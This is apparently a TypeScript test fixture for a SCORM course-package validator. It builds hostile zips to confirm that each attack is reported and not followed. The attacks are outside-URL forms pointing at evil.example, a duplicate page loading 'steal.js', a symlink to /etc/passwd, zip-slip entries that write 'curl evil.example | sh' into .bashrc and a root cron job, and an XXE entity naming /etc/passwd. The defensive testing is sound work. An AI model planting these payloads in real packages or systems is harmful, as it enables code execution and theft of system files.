/**
 * Hostile packages: a small hand-written SCORM 1.2 course, each time with one attack a hostile
 * zip makes — every outside-request form a browser follows, a repeated entry whose first copy is
 * the hostile one, a symbolic link out of the package, names that climb out of the unpack folder,
 * and an external entity in the manifest. Each is reported, none is followed.
 */
import { at, controlDocuments, type CorpusCase, fileElements, SCORM12_NAMESPACES } from './corpus-case.ts';
import type { ZipEntry } from './zip-builder.ts';

function manifest(files: readonly string[], title = 'Hostile input'): string {
  return `<?xml version="1.0" encoding="UTF-8"?>
<manifest identifier="hostile" version="1.0" ${SCORM12_NAMESPACES}>
  <metadata><schema>ADL SCORM</schema><schemaversion>1.2</schemaversion></metadata>
  <organizations default="org"><organization identifier="org"><title>${title}</title>
    <item identifier="item" identifierref="res"><title>${title}</title></item>
  </organization></organizations>
  <resources>
    <resource identifier="res" type="webcontent" adlcp:scormtype="sco" href="index.html">
${fileElements(files)}
    </resource>
  </resources>
</manifest>
`;
}

const PAGE = '<!DOCTYPE html>\n<html><head><title>Course</title></head><body><p>Lesson</p></body></html>\n';

async function scorm12(files: Record<string, string>, manifestText = manifest(Object.keys(files))): Promise<ZipEntry[]> {
  return [{ name: 'imsmanifest.xml', data: manifestText }, ...(await controlDocuments('scorm12')), ...Object.entries(files).map(([name, data]) => ({ name, data }))];
}

const URL_FORMS = `<!DOCTYPE html>
<html><head>
<base href="https://cdn.evil.example/">
<meta http-equiv="refresh" content="30; url=https://evil.example/phish">
<link rel="stylesheet" href="style.css">
</head><body>
<img src="\\\\evil.example\\share\\a.png" alt="">
<img srcset="small.png 1x, https://evil.example/large.png 2x" alt="">
<img src="icon.svg" alt="">
</body></html>
`;
const URL_CSS = '@import "https://evil.example/theme.css";\nbody { color: #222; }\n';
const URL_SVG = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">
<image href="https://evil.example/i.png" width="10" height="10"/>
<use xlink:href="https://evil.example/sprite.svg#x"/>
</svg>
`;

export const hostileUrlForms: CorpusCase = {
  name: 'hostile-url-forms',
  about: 'every outside-request form: <base>, meta refresh, \\\\host paths, srcset, @import, SVG href and xlink:href',
  standard: 'scorm12',
  entries: () => scorm12({ 'index.html': URL_FORMS, 'style.css': URL_CSS, 'icon.svg': URL_SVG }),
  expected: [
    ['outside-url', at('index.html', URL_FORMS, '<base')],
    ['outside-url', at('index.html', URL_FORMS, '<meta')],
    ['outside-url', at('index.html', URL_FORMS, 'evil.example\\share')],
    ['outside-url', at('index.html', URL_FORMS, 'srcset')],
    ['outside-url', at('style.css', URL_CSS, '@import')],
    ['outside-url', at('icon.svg', URL_SVG, '<image')],
    ['outside-url', at('icon.svg', URL_SVG, '<use')],
  ],
  verdict: 'imports into Moodle, Canvas and SCORM Cloud; 7 warnings',
};

const HOSTILE_FIRST = '<!DOCTYPE html>\n<html><head><script src="https://evil.example/steal.js"></script></head><body></body></html>\n';

export const duplicateEntries: CorpusCase = {
  name: 'duplicate-entries',
  about: 'index.html twice: extractors that keep the first copy serve the hostile page, so that is the copy checked',
  standard: 'scorm12',
  entries: async () => {
    const [head, ...rest] = await scorm12({ 'index.html': PAGE });
    return [head!, { name: 'index.html', data: HOSTILE_FIRST }, ...rest];
  },
  expected: [
    ['duplicate-entry', 'index.html'],
    ['outside-url', 'index.html:2'],
  ],
  verdict: 'will be rejected or will not work: 1 error (duplicate-entry)',
};

const LINKED = manifest(['index.html', 'assets/notes.txt']);

export const symlinkOut: CorpusCase = {
  name: 'symlink-out',
  about: 'a symbolic link to /etc/passwd where the manifest lists a file',
  standard: 'scorm12',
  entries: async () => [
    ...(await scorm12({ 'index.html': PAGE }, LINKED)),
    { name: 'assets/notes.txt', data: '/etc/passwd', symlink: true },
  ],
  expected: [
    ['symlink-entry', 'assets/notes.txt'],
    // The manifest lists the file, but a link is no file the LMS will serve.
    ['missing-file', at('imsmanifest.xml', LINKED, 'assets/notes.txt')],
  ],
  verdict: 'will be rejected or will not work: 1 error (symlink-entry)',
};

export const zipSlip: CorpusCase = {
  name: 'zip-slip',
  about: 'entries named to climb out of the folder they are unpacked into',
  standard: 'scorm12',
  entries: async () => [
    ...(await scorm12({ 'index.html': PAGE })),
    { name: '../../../home/learner/.bashrc', data: 'curl evil.example | sh\n' },
    { name: '/etc/cron.d/evil', data: '* * * * * root sh\n' },
    { name: 'C:/Windows/evil.bat', data: 'echo evil\n' },
  ],
  expected: [
    ['unsafe-entry-name', '../../../home/learner/.bashrc'],
    ['unsafe-entry-name', '/etc/cron.d/evil'],
    ['unsafe-entry-name', 'C:/Windows/evil.bat'],
  ],
  verdict: 'will be rejected or will not work: 3 errors (unsafe-entry-name)',
};

const XXE = manifest(['index.html'], '&xxe;').replace('<manifest ', '<!DOCTYPE manifest [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<manifest ');

export const externalEntity: CorpusCase = {
  name: 'external-entity',
  about: 'a manifest whose title is an external entity naming /etc/passwd (XXE): never resolved',
  standard: undefined,
  entries: () => scorm12({ 'index.html': PAGE }, XXE),
  expected: [['manifest-not-well-formed', 'imsmanifest.xml']],
  verdict: 'will be rejected or will not work: 1 error (manifest-not-well-formed)',
};
